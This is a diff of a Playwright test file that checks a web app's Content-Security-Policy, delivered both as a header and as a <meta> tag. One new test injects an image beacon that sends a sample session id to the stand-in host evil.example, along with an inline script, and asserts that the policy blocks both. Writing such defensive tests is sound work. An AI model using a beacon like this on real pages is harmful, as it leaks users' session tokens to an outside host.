@@ -1,11 +1,13 @@
 /**
- * The production build runs under a strict Content-Security-Policy (vite.config.ts sets it on the preview server):
- * every route of screens/routes.json, with its example query, loads without a single CSP violation, and the policy
- * really refuses inline script and eval.
+ * The production build runs under a strict Content-Security-Policy (server/http/content-security-policy.ts): the
+ * server sends it as a header and the built index.html carries it as a <meta> (server/http/csp-meta.ts). Every route of
+ * screens/routes.json, with its example query, loads without a single CSP violation; the policy really refuses inline
+ * script and eval; and on a static host that sends no header at all, the <meta> alone still refuses an outside picture.
  */
 import { expect, test, type Page } from '@playwright/test';
 import routes from '../../screens/routes.json' with { type: 'json' };
 import { useScenario } from '../setup/e2e-page.ts';
+import { startStaticHost, type StaticHost } from '../setup/static-host.ts';
 
 const session = 'userId=5512&deviceId=dev-1&appName=hatid&merchantNumber=M-88';
 
@@ -69,13 +71,11 @@ test('the policy refuses an inline script and a style attribute, and the watcher
     document.body.insertAdjacentHTML('beforeend', '<p style="color: red">probe</p>');
   });
   expect(await page.evaluate(() => window.cspProbe)).toBeUndefined();
+  // Each is reported twice: by the header's policy and by the same policy in the page's <meta>.
   await expect
     .poll(async () => (await violations(page)).map((v) => v.directive).sort())
-    .toEqual(['script-src-elem', 'style-src-attr']);
+    .toEqual(['script-src-elem', 'script-src-elem', 'style-src-attr', 'style-src-attr']);
 });
-
-/** Scenarios that keep a route's own page on screen (the default e-wallet answer leaves for the provider's page). */
-const scenarioOf: Record<string, string> = { '#/alipayrepayment': 'repay-no-wallet' };
 
 /** The routes in four groups, each visited in one page (two run at a time). */
 const groups = [0, 1, 2, 3].map((g) => routes.filter((_r, i) => i % 4 === g));
@@ -84,7 +84,8 @@ for (const [g, group] of groups.entries()) {
   test(`no CSP violation on any route, group ${g + 1}: ${group.map((r) => r.path).join(' ')}`, async ({ page }) => {
     const consoleErrors = await watchCsp(page);
     for (const route of group) {
-      await useScenario(page, scenarioOf[route.path] ?? 'default');
+      // Every route stays on its own page on opening (the e-wallet page starts its payment only on a tap).
+      await useScenario(page, 'default');
       await page.goto(routeAddress(route));
       await expect(page.locator('main').first(), route.path).toBeVisible();
       await page.waitForLoadState('networkidle');
@@ -108,4 +109,41 @@ test('no CSP violation with dialogs open: an agreement dialog with its frame, an
   await expect(page.getByRole('dialog')).toBeVisible();
   expect(await violations(page)).toEqual([]);
   expect(consoleErrors).toEqual([]);
+});
+
+test.describe('on a static host that sends no CSP header', () => {
+  let host: StaticHost;
+  test.beforeAll(async () => {
+    // The build the production server serves (playwright.config.ts builds it first), on a host without headers.
+    host = await startStaticHost('dist');
+  });
+  test.afterAll(async () => {
+    await host.close();
+  });
+
+  test('the page’s own <meta> policy still refuses a picture from evil.example and an inline script', async ({ page }) => {
+    const outside: string[] = [];
+    await page.route(/evil\.example/, (route) => {
+      outside.push(route.request().url());
+      return route.fulfill({ status: 204, body: '' });
+    });
+    await watchCsp(page);
+    const answer = await page.goto(`${host.origin}/customerService`);
+    expect(answer?.headers()['content-security-policy']).toBeUndefined();
+    await expect(page.locator('main').first()).toBeVisible();
+    // Past the app's own URL policy (as a bug in it would be): only the CSP stands in the way.
+    await page.evaluate(() => {
+      const img = document.createElement('img');
+      img.src = 'https://evil.example/c.gif?sid=S3cr3tSess10n';
+      document.body.append(img);
+      const script = document.createElement('script');
+      script.textContent = 'window.cspProbe = 1';
+      document.head.append(script);
+    });
+    await expect
+      .poll(async () => (await violations(page)).map((v) => `${v.directive} ${v.blocked}`).sort())
+      .toEqual(['img-src https://evil.example/c.gif?sid=S3cr3tSess10n', 'script-src-elem inline']);
+    expect(await page.evaluate(() => window.cspProbe)).toBeUndefined();
+    expect(outside).toEqual([]);
+  });
 });
